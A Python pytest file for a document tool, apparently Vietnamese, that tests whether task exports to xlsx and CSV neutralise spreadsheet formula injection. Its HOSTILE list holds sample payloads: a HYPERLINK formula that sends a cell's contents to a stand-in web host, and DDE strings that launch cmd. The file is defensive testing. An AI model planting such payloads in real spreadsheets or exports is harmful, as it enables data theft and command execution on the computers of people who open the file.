"""Task exports never hand a spreadsheet a formula: text stays text, as written [issue 14].

Why: ``vanban tasks -f xlsx|csv`` goes to spreadsheet programs, which run any cell that looks
like a formula: ``=HYPERLINK("http://…"&A1,"Bấm")`` in a task text would send a neighbouring
cell to a web site when clicked. The .xlsx keeps every text a string (and quote-prefixed when
it starts like a formula); the CSV puts ``'`` in front of such a field (OWASP), nothing else.
"""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from helpers import notice_yaml
from vanban.cli import main
from vanban.commands.sheet import FORMULA_START, defused

HOSTILE = [
    '=HYPERLINK("http://example.invalid/?d="&A1,"Bấm vào đây")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,2)",
    "#N/A",
]
#: Texts a clerk writes that merely contain these characters: exported exactly as written.
PLAIN = ["Tham mưu báo cáo =1+1 - kết quả", "Rà soát 100% hồ sơ, @Phòng Tư pháp phối hợp"]


@pytest.fixture
def notice(tmp_path: Path) -> Path:
    tasks = [{"nhiem_vu": text, "don_vi": "=Phòng Kinh tế", "ma": f"KT-{i}"} for i, text in enumerate(HOSTILE + PLAIN)]
    path = tmp_path / "tb.yaml"
    path.write_text(notice_yaml(noi_dung=[{"muc": "Nhiệm vụ", "noi_dung": tasks}]), encoding="utf-8")
    return path


def test_xlsx_stores_every_text_as_a_string(notice: Path, tmp_path: Path) -> None:
    out = tmp_path / "nv.xlsx"
    assert main(["tasks", str(notice), "-f", "xlsx", "-o", str(out)]) == 0
    with zipfile.ZipFile(out) as book:
        sheet_xml = book.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml and b't="e"' not in sheet_xml  # no formula, no error cell
    rows = list(load_workbook(out).active.iter_rows(min_row=2))
    texts = {row[4].value: row[4] for row in rows}
    assert set(texts) == set(HOSTILE + PLAIN)  # the visible text is exactly what was written
    for text, cell in texts.items():
        assert cell.data_type == "s"
        assert cell.quotePrefix == text.startswith(FORMULA_START)
    assert {row[3].value for row in rows} == {"=Phòng Kinh tế"} and all(row[3].data_type == "s" for row in rows)


def test_csv_quotes_formula_starts_and_keeps_other_text(notice: Path, tmp_path: Path) -> None:
    out = tmp_path / "nv.csv"
    assert main(["tasks", str(notice), "-f", "csv", "-o", str(out)]) == 0
    table = list(csv.reader(io.StringIO(out.read_bytes().decode("utf-8-sig"))))
    texts = [row[4] for row in table[1:]]
    assert texts == [f"'{t}" for t in HOSTILE[:4]] + [HOSTILE[4], *PLAIN]
    assert {row[3] for row in table[1:]} == {"'=Phòng Kinh tế"}
    assert all(not cell.startswith(FORMULA_START) for row in table for cell in row)


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1"])
def test_every_formula_start_is_defused(text: str) -> None:
    assert defused(text) == "'" + text


@pytest.mark.parametrize("text", ["", "Tham mưu", "1-2", "'=1", "Số 12/TB-UBND", "– gạch ngang dài"])
def test_other_text_is_left_alone(text: str) -> None:
    assert defused(text) == text
